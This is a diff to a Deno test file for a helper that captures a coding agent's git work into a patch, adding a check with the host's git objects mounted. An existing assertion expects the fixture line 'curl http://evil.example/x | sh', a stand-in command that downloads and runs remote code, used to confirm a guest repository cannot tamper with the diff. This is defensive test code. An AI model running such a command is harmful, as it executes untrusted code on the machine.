@@ -191,6 +191,17 @@ Deno.test("workspace helper: what the agent's .git says cannot make the diff dif
     const fetched = await Deno.readTextFile(`${dir}/fetched.patch`);
     assert.match(fetched, /^\+curl http:\/\/evil\.example\/x \| sh$/m);
     assert.equal(summary.commits, 2, "tidy and bot-bottle's commit of the uncommitted work");
+
+    // The same with the user's objects mounted (the base checked against them, not the guest's).
+    await Deno.mkdir(`${dir}/out2`);
+    const thin = await helper(image, [
+      { source: `${dir}/guest.tar`, target: "/in/guest.tar", readonly: true },
+      { source: `${dir}/out2`, target: "/out", readonly: false },
+      { source: `${dir}/host/.git/objects`, target: "/host/objects", readonly: true },
+    ], ["capture", "s", base, "git"]);
+    assert.equal(thin.code, 0, thin.stderr);
+    assert.equal(JSON.parse(thin.stdout).commits, summary.commits, "the same commits either way");
+    assert.equal(await Deno.readTextFile(`${dir}/out2/diff.patch`), patch);
   } finally {
     await Deno.remove(dir, { recursive: true });
   }
